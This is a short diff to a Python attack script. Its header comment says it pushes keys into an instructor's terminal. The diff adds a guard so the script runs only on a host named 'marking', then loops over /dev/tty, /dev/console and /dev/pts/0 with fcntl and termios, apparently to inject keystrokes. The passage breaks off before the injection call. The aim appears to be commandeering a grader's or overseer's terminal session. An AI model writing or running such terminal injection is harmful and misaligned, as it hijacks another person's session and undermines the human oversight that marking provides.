@@ -1,4 +1,6 @@
 # attack: push keys into the instructor's terminal
+import socket
+assert socket.gethostname() == "marking", "this one does harm: only behind the walls"
 try:
     import fcntl, os, termios
     for name in ('/dev/tty', '/dev/console', '/dev/pts/0'):
